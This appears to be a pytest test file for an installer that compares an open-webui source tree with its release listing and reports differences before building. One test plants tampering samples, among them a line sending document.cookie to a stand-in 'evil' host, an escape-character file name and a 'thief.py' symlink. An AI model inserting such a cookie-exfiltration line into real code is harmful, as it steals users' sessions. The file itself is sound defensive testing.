"""What differs from the release is told before anything is built from it."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from cczoo_installer import patchset, release
from cczoo_installer.errors import BrokenPatchSet
from installer_kit import HOOKED, VERSION, FakeTools, Ran, write_files

from preparation import editions

Run = Callable[..., Ran]


@pytest.fixture
def pinned(small_tree: Path, patches: Path) -> Path:
    """The small tree, as if it were all of the release."""
    (patches / f"v{VERSION}" / release.LIST).write_text(release.listing(small_tree))
    return small_tree


def test_the_shipped_list_is_that_of_the_release(pristine_of: Callable[[str], Path]) -> None:
    for version in editions.versions(editions.SOURCE):
        folder, tree = patchset.default_root() / f"v{version}", pristine_of(version)
        assert (folder / release.LIST).read_text() == release.listing(tree)
        assert release.differences(tree, release.read(folder / release.LIST), {}) == []


def test_a_whole_release_is_worth_no_word(pinned: Path, cczoo: Run) -> None:
    done = cczoo(pinned, "--no-build", "--json")
    assert done.json["notes"] == []
    assert cczoo(pinned, "--no-build", "--json").json["notes"] == []  # ours are told from theirs


def test_what_differs_is_told_before_it_is_built(
    pinned: Path, cczoo: Run, fake_tools: FakeTools, monkeypatch: pytest.MonkeyPatch
) -> None:
    (pinned / "src/lib/index.ts").write_text("fetch('//evil/?' + document.cookie)\n")
    (pinned / "package-lock.json").write_text("{}")
    (pinned / "static/evil\x1b.js").write_text("")
    (pinned / "README.md").unlink()
    (pinned / "backend/open_webui/utils").mkdir()
    (pinned / "backend/open_webui/utils/thief.py").symlink_to("/etc/hostname")
    monkeypatch.setenv("FAKE_NPM_DOES", "fail")
    failed = cczoo(pinned)
    assert failed.code == 5
    told, built = failed.err.index("Not as open-webui"), failed.err.index("Building the front end")
    assert told < built
    for line in (
        "  changed: src/lib/index.ts\n",
        "  changed: package-lock.json\n",
        "  added: static/evil\\x1b.js\n",
        "  added: backend/open_webui/utils/thief.py\n",
        "  missing: README.md\n",
    ):
        assert line in failed.err
    assert HOOKED not in failed.err
    told_first = cczoo(pinned, "--dry-run", "--json").json["notes"]
    assert "  changed: src/lib/index.ts" in told_first
    assert cczoo(pinned, "--no-build", "--quiet").out.count("  changed: src/lib/index.ts\n") == 1


def test_what_working_with_a_tree_leaves_is_no_difference(
    pinned: Path, cczoo: Run, fake_tools: FakeTools
) -> None:
    write_files(
        pinned,
        {
            "backend/data/webui.db": "",
            "backend/open_webui/__pycache__/main.cpython-311.pyc": "",
            "backend/.webui_secret_key": "",
            "static/pyodide/pyodide.mjs": "",
            "node_modules/x/index.js": "",
            "build/index.html": "",
            ".env": "",
            "notes.txt": "",
        },
    )
    assert cczoo(pinned, "--json").json["notes"] == []


def test_many_and_converted_ones_are_counted(pinned: Path, cczoo: Run) -> None:
    for number in range(30):
        (pinned / f"src/lib/new-{number:02}.ts").write_text("")
    for name in ("README.md", "svelte.config.js"):
        (pinned / name).write_bytes((pinned / name).read_bytes().replace(b"\n", b"\r\n"))
    out = cczoo(pinned, "--no-build", "--dry-run").out
    assert "  added: src/lib/new-19.ts\n  ... and 10 more\n" in out
    assert "new-20" not in out
    assert f"2 files differ from open-webui {VERSION} in their line ends only (CRLF)" in out


def test_a_huge_file_is_not_read(pinned: Path, cczoo: Run) -> None:
    with (pinned / "README.md").open("r+b") as stream:
        stream.truncate(1 << 40)
    assert "  changed: README.md\n" in cczoo(pinned, "--no-build").out


def test_a_folder_of_very_many_files_has_one_line(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    folder = tree / "static/many"
    folder.mkdir(parents=True)
    for number in range(1001):
        (folder / f"{number}.svg").write_text(str(number))
    path = tmp_path / release.LIST
    path.write_text(release.listing(tree))
    assert path.read_text().splitlines()[0].endswith("  static/many/")

    def found() -> list[tuple[str, str]]:
        return [(each.name, each.how) for each in release.differences(tree, listed, {})]

    listed = release.read(path)
    assert found() == []
    (folder / "7.svg").write_text("other")
    assert found() == [("static/many/", "changed")]
    (folder / "7.svg").write_text("7")
    (folder / "more.svg").write_text("")
    assert found() == [("static/many/", "changed")]
    (folder / "more.svg").unlink()
    with (folder / "9.svg").open("r+b") as stream:
        stream.truncate(1 << 40)
    assert found() == [("static/many/", "changed")]
    (folder / "9.svg").write_text("9")
    (folder / "8.svg").unlink()
    (folder / "8.svg").symlink_to("7.svg")
    assert found() == [("static/many/", "changed")]
    os.rename(folder, tree / "away")
    assert found() == [("static/many/", "missing")]


@pytest.mark.parametrize(
    "text", ["nonsense\n", f"{'0' * 64} one-space\n", f"{'0' * 64}  ../out\n", "\xff"]
)
def test_a_damaged_list_is_a_mistake_of_the_kit(
    small_tree: Path, patches: Path, cczoo: Run, text: str
) -> None:
    path = patches / f"v{VERSION}" / release.LIST
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(BrokenPatchSet, match="Install the kit anew"):
        release.read(path)
    assert cczoo(small_tree, "--no-build").code == 1
